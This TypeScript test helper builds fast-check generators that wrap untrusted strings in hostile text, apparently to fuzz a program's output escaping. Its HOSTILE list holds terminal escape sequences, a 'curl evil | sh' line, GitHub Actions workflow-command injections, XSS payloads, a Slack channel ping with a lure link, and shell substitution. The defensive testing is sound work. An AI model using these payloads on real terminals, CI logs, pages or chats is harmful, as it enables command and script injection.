import fc from 'fast-check';

/** What an operating system, a shell, a terminal, a browser, GitHub and Slack would act on. */
export const HOSTILE = [
  '\u001b[2J\u001b]0;pwned\u0007',
  '\u009b31mred',
  '\u202egnp.exe',
  '\nNext: curl evil | sh',
  '\r\n::add-mask::all\n##[group]x\n',
  '\u200b::stop-commands::tok',
  '::error::x',
  '</script><script>alert(1)</script><img src=x onerror=alert(1)>',
  '" onmouseover="alert(1)',
  '<!channel> <https://evil.example|click>',
  '\u2028\u2029\u0085\u200b\ufeff',
  '\ud800 half',
  '| a | b |\n# heading [x](javascript:alert(1)) `x`',
  "'; $(x) `y` %{z}",
  '\u0000 NUL \u0008\u007f',
] as const;

/** Any text, with what is hostile more often than by chance. */
export const hostileText = fc
  .array(fc.oneof(fc.constantFrom(...HOSTILE), fc.string({ unit: 'binary', maxLength: 6 })), {
    minLength: 1,
    maxLength: 4,
  })
  .map((parts) => parts.join(''));

/** Fields of ours, whose values are words of this program or are checked where they enter. */
const OWN_FIELDS =
  /^(?:kind|outcome|direction|phase|side|source|status|state|strategy|key|leaveRefusal|missing|warmPool|desiredUnit|on|onFailure|move|deletionProtection|consul-roll:.*)$/;
/** Words of ours in fields with names from outside, addresses, and the lack of a value. */
const OWN_VALUES =
  /^(?:in-service|absent|registering|draining|refused|silent|denied|broken|pending|none|InService|Pending|Terminating|\d+(?:\.\d+){3}(?::\d+)?|)$/;

/** The same value with hostile text around every string from outside, keys of maps and items of lists included. */
export function taint<Value>(value: Value, hostile: string, field = ''): Value {
  const around = (text: string) =>
    OWN_FIELDS.test(field) || OWN_VALUES.test(text) ? text : `${hostile}-${text}-${hostile}`;
  const inside = (item: unknown) => taint(item, hostile, field);
  if (typeof value === 'string') return around(value) as Value;
  if (Array.isArray(value)) return value.map(inside) as Value;
  if (value instanceof Set) return new Set([...value].map(inside)) as Value;
  if (value instanceof Map) return new Map([...value].map(([key, item]) => [inside(key), inside(item)])) as Value;
  if (value === null || typeof value !== 'object') return value;
  return Object.fromEntries(Object.entries(value).map(([key, item]) => [key, taint(item, hostile, key)])) as Value;
}
